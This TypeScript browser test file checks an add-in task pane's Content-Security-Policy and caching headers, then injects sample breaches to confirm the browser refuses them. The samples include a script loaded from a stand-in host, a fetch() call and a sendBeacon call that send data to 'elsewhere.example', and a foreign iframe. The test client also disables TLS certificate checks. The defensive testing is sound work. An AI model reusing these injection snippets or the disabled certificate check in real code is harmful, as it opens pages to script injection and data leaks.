/** What the pane may load is said by its page and its server alike, and the browser tests hear of every breach. */
import { request } from "node:https";
import { policyIn } from "../../scripts/csp.cjs";
import { everywhere } from "../../scripts/headers.cjs";
import { browserTests } from "./support/browserTests";
import { fewOf } from "./support/wide";
import type { Workbench } from "./support/workbench";

/** A file of the pane as its server sends it. */
function ask(path: string): Promise<{ readonly headers: NodeJS.Dict<string | string[]>; readonly body: string }> {
  const { hostname, port } = new URL(process.env.E2E_PAGE ?? "");
  return new Promise((resolve, reject) => {
    request({ hostname, port, path, rejectUnauthorized: false }, (response) => {
      let body = "";
      response.setEncoding("utf8").on("data", (chunk: string) => (body += chunk));
      response.on("end", () => resolve({ headers: response.headers, body }));
    }).on("error", reject).end();
  });
}

const lowerCase = (headers: Readonly<Record<string, string>>) => Object.fromEntries(Object.entries(headers).map(([name, value]) => [name.toLowerCase(), value]));

/** What somebody might smuggle into the pane's page, and a word of the browser's objection. */
const BREACHES: readonly (readonly [string, string, RegExp])[] = [
  ["a script of another server", "const s = document.createElement('script'); s.src = 'https://elsewhere.example/a.js'; document.head.append(s)", /script-src/],
  ["a script within the page", "const s = document.createElement('script'); s.textContent = 'window.smuggled = 1'; document.head.append(s)", /script-src/],
  ["a style within the page", "const s = document.createElement('style'); s.textContent = 'p { color: red }'; document.head.append(s)", /style-src/],
  ["a picture of another server", "new Image().src = 'https://elsewhere.example/a.png'", /img-src/],
  ["a call to another server", "fetch('https://elsewhere.example/').catch(() => undefined)", /connect-src/],
  ["a beacon to another server", "navigator.sendBeacon('https://elsewhere.example/', 'x')", /connect-src/],
  ["a worker of another making", "try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch { 'refused' }", /worker-src/],
  ["a frame of another server", "const f = document.createElement('iframe'); f.src = 'https://elsewhere.example/'; document.body.append(f)", /default-src|frame-src/],
];

async function inPane({ page }: Workbench, code: string): Promise<void> {
  const frame = page.frames().find((one) => one.url().includes("/taskpane.html"));
  if (!frame) throw new Error("the pane is not open");
  await frame.evaluate(code);
}

browserTests("what the pane may load", (open) => {
  test("the server sends with every file the very policy that the page names", async () => {
    const { body, headers } = await ask("/taskpane.html");
    const said = lowerCase(everywhere(policyIn(body)));
    expect(headers).toMatchObject(said);
    expect((await ask("/manifest.xml")).headers).toMatchObject(said);
    expect(headers["x-frame-options"]).toBeUndefined();
    expect(headers["cross-origin-opener-policy"]).toBeUndefined();
    expect(policyIn(body)).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline|\*|frame-ancestors/);
  });

  test("pages are asked for anew each time, scripts with a hash are kept for ever, icons may be kept", async () => {
    const { body, headers } = await ask("/taskpane.html");
    expect(headers["cache-control"]).toBe("no-cache");
    const script = /src=(taskpane\.[0-9a-f]{10}\.js)/.exec(body)![1]!;
    expect((await ask(`/${script}`)).headers["cache-control"]).toBe("public, max-age=31536000, immutable");
    expect((await ask("/assets/logo-32.png")).headers["cache-control"]).not.toMatch(/no-store|no-cache/);
  });

  test.each(fewOf(2, BREACHES))("%s is refused, and a browser test hears of it", async (_, code, word) => {
    // A window of its own: of a frame the browser may say so twice, the second time when the next test listens already.
    const workbench = await open({ alone: true });
    await workbench.pane.getByRole("heading").first().waitFor();
    await inPane(workbench, code);
    while (workbench.faults.length === 0) await workbench.page.waitForTimeout(20);
    // Some requests are told of before they are refused; none has left.
    for (const asked of workbench.outside.splice(0)) expect(asked).toContain("elsewhere.example");
    workbench.leave();
    expect(workbench.faults.splice(0).join("\n")).toMatch(word);
    expect(await workbench.page.frames().find((one) => one.url().includes("/taskpane.html"))!.evaluate("window.smuggled")).toBeUndefined();
  });
});
